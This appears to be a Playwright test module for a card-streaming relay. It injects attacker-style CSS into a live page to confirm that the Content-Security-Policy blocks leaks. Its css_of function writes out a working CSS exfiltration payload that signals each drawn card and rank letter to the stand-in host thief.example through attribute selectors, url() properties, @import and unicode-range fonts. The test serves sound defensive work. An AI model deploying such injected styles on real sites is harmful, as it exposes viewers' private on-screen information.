"""Custom CSS as a streaming program puts it into a page on air, written by a thief: each card that is drawn, each
letter of a rank and each picture of a suit asks for an address of its own, elsewhere and on the relay.

What the page may do about it is said by its Content-Security-Policy: nothing of it may leave the browser.
"""

from __future__ import annotations

import threading
from itertools import product

from playwright.sync_api import Error as BrowserError
from playwright.sync_api import Page, Request, sync_playwright

from tests import chromium
from tests.room.leak.capture import Capture
from tests.room.leak.notation import RANKS, SUITS

RANK_NAMES = dict(zip(RANKS, [*"23456789", "ten", "jack", "queen", "king", "ace"], strict=True))
SUIT_NAMES = dict(zip(SUITS, ("clubs", "diamonds", "hearts", "spades"), strict=True))
SIZE = {"width": 640, "height": 360}  # a small page costs the machine little, and asks for the same
LOOK_S = 0.5
ENDS_S = 60.0
THIEF = "http://thief.example"
ELSEWHERE = "styles: asked elsewhere"
HELD = ("csp", "origin")  # why a request failed that the policy held back, or the browser by itself
# As a streaming program does it, behind the page's own styles.
INJECT = """(css) => {
  const style = document.createElement("style");
  style.append(css);
  document.head.append(style);
}"""


def css_of(elsewhere: str = THIEF) -> str:
    """Everything that a style sheet can ask for, by what is drawn."""
    rules = [f'@import url("{elsewhere}/import");']
    for rank, suit in product(RANKS, SUITS):
        card, words = rank + suit, f"{RANK_NAMES[rank]} of {SUIT_NAMES[suit]}"
        seen, there = f'.card[aria-label="{words}" i]', f'url("{elsewhere}/{{}}?{card}")'
        here = f'url("/{{}}?{card}")'  # the relay itself, whose log somebody reads
        rules += [
            f"{seen} {{ background-image: {there.format('background')}, {here.format('background')}; }}",
            f"{seen}::before {{ content: {there.format('content')}; }}",
            f"{seen}::after {{ content: {here.format('content')}; }}",
            f"body:has({seen}) {{ border-image-source: {there.format('has')}; }}",
            f"{seen} {{ cursor: {there.format('cursor')}, auto; mask-image: {there.format('mask')}; }}",
            f'{seen} {{ filter: url("{elsewhere}/filter?{card}#f"); }}',
        ]
    for letter in RANKS:  # a font of one letter is fetched once the letter is drawn
        rules.append(
            f'@font-face {{ font-family: stolen; src: url("{elsewhere}/font?{letter}"); '
            f"unicode-range: U+{ord(letter):X}; }}"
        )
    rules.append('.card, .card * { font-family: stolen, "Sofia Sans Condensed" !important; }')
    return "\n".join(rules)


class Asked:
    """What a page asks for: `here` of its own server; elsewhere what was held back, and what got `out`."""

    def __init__(self, page: Page, own: str) -> None:
        self._own = own
        self.here: set[str] = set()
        self.held: set[str] = set()
        self.out: set[str] = set()
        page.on("request", lambda request: self._note(request, self.here))
        page.on("response", lambda answer: self._note(answer.request, self.out))
        page.on("requestfailed", self._failed)

    def _note(self, request: Request, where: set[str]) -> None:
        if request.url.startswith((self._own + "/", "data:")) == (where is self.here):
            where.add(request.url)

    def _failed(self, request: Request) -> None:
        self._note(request, self.held if request.failure in HELD else self.out)


class StyledPage:
    """A browser in a thread of its own with a page on air and a thief's styles in it. What gets out of it is
    captured as `ELSEWHERE`; `held` counts what was held back, so that the styles work."""

    def __init__(self, capture: Capture, url: str) -> None:
        self.held = 0
        self._capture = capture
        self._url = url
        self._stopping = threading.Event()
        self._thread = threading.Thread(target=self._work, daemon=True)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._stopping.set()
        self._thread.join(ENDS_S)

    def _work(self) -> None:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium.PROGRAM, args=chromium.QUIET)
            page = browser.new_page(viewport=SIZE, reduced_motion="reduce")  # type: ignore[arg-type]
            asked = Asked(page, self._url.partition("/air/")[0])
            while not self._stopping.is_set():
                try:
                    self._look(page)
                except BrowserError:  # the relay was killed, or starts
                    self._stopping.wait(LOOK_S)
            browser.close()
        self.held = len(asked.held)
        for url in asked.out:
            self._capture.add("styles", ELSEWHERE, url.encode())

    def _look(self, page: Page) -> None:
        page.goto(self._url)
        page.evaluate(INJECT, css_of())
        while not self._stopping.is_set():
            page.wait_for_timeout(LOOK_S * 1_000)
